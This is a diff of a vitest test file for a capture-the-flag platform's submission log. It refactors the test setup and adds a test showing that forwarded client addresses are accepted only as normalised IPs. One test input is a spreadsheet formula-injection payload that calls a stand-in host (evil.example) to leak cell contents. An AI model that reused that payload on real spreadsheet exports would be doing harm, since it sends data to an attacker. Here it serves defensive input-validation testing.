@@ -1,8 +1,9 @@
 import { MESSAGES } from '@ctf/contract';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { buildTestApp, type TestApp, type TestClient } from '../../../test/build-test-app.js';
+import { buildTestApp, type TestClient } from '../../../test/build-test-app.js';
 import { addChallenge, makeTeam, openSite } from '../../../test/compete.js';
 import { testDatabaseKinds } from '../../../test/databases.js';
+import { startedEvent, type StartedEvent } from '../../../test/fixtures.js';
 import { connectDatabase } from '../../db/connect.js';
 import { listSubmissionRows } from './submission-log.repo.js';
 import { flushSubmissionLog, pruneSubmissionLog } from './submission-log.service.js';
@@ -20,15 +21,14 @@ interface Row {
 
 for (const kind of testDatabaseKinds()) {
   describe(`submission log on ${kind}`, () => {
-    let t: TestApp;
+    let t: StartedEvent<'alice', 'boss'>;
     let admin: TestClient;
     let alice: TestClient;
 
     beforeEach(async () => {
-      t = await buildTestApp(kind);
-      admin = await t.login('boss', { admin: true });
-      alice = await t.login('alice');
-      await openSite(t);
+      t = await startedEvent({ kind, admins: ['boss'], users: ['alice'] });
+      admin = t.admin;
+      alice = t.users.alice;
     });
     afterEach(async () => {
       await t.close();
@@ -50,7 +50,11 @@ for (const kind of testDatabaseKinds()) {
       await t.app.close();
       const database = await connectDatabase(t.config.database);
       try {
-        const rows = await database.db.selectFrom('submissions').select(['submitted']).orderBy('id').execute();
+        const rows = await database.db
+          .selectFrom('submissions')
+          .select(['submitted'])
+          .orderBy('id')
+          .execute();
         expect(rows.map((r) => r.submitted)).toEqual(['first-wrong', 'second-wrong']);
       } finally {
         await database.close();
@@ -313,6 +317,39 @@ describe('client address', () => {
       } finally {
         await t.close();
       }
+    }
+  });
+
+  it('takes a forwarded address only when it is an IP address, and in one spelling (issue 29)', async () => {
+    const t = await buildTestApp('sqlite', { TRUST_PROXY: 'loopback' });
+    try {
+      const admin = await t.login('boss', { admin: true });
+      const alice = await t.login('alice');
+      await openSite(t);
+      const c = await addChallenge(t, { name: 'Forwarded' });
+      const sent = [
+        'x'.repeat(3000),
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        '::ffff:7.7.7.7',
+        '7.7.7.7',
+        '2001:0DB8:0:0::0001',
+        '203.0.113.9, not-an-address',
+      ];
+      for (const forwarded of sent)
+        await alice.post('/api/ctf/submit-flag', { challenge_id: c.id, flag: 'x' }, { 'x-forwarded-for': forwarded });
+      await flushSubmissionLog(t.ctx);
+      const rows = (await admin.get('/api/admin/submissions')).body.rows as Row[];
+      // Newest first; junk falls back to the connection's own address.
+      expect(rows.map((r) => r.address).reverse()).toEqual([
+        '127.0.0.1',
+        '127.0.0.1',
+        '7.7.7.7',
+        '7.7.7.7',
+        '2001:db8::1',
+        '127.0.0.1',
+      ]);
+    } finally {
+      await t.close();
     }
   });
 
